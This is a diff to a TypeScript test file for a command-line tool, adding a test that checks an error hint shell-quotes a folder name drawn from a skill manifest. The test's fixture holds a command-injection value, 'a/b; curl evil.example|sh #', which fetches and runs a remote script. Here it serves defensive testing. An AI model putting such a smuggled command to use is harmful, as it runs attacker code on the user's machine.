@@ -8,12 +8,14 @@ import { useSandboxProgram } from "../../../../testing/sandbox-program.ts";
 import { plain } from "../../src/cli/text/paint.ts";
 import { devView } from "../../src/cli/views/dev.ts";
 import { compose } from "../../src/entry/compose.ts";
+import { PalyraError } from "../../src/errors.ts";
 import { openSandboxPool } from "../../src/execution/index.ts";
 import { CATALOG } from "../../src/operations/catalog.ts";
 import { approvalQuestion } from "../../src/operations/shared/approval-question.ts";
 import { launchPlanOf } from "../../src/operations/shared/launch-plan.ts";
 import { tellGrant } from "../../src/operations/wording/grants.ts";
 import { tellOutcome } from "../../src/operations/wording/outcomes.ts";
+import { tellingOf } from "../../src/operations/wording/sentences.ts";
 import { spentOf } from "../../src/operations/wording/units.ts";
 import { commandLine, errorOf, temporaryFolder } from "../cli/support.ts";
 import { newCall } from "../lifecycle/parts.ts";
@@ -245,5 +247,15 @@ describe("T44: a command that is told to be typed", () => {
       expect(new URL(name).origin).toBe(name);
       expect(hint("http.egress", name)).toMatch(/ --origin https:\/\/HOST$/);
     }
+  });
+
+  it("quotes a folder's name for the shell, which is its manifest's", () => {
+    const error = new PalyraError("UnsafeStateRoot", {
+      folder: "/state/skill-data/acme.echo/a",
+      problem: "a link or a file lies where a root's folder must be",
+      root: "a/b; curl evil.example|sh #",
+      skill_id: "acme.echo",
+    });
+    expect(tellingOf(error)?.hint).toContain(" --root 'a/b; curl evil.example|sh #=FOLDER'");
   });
 });
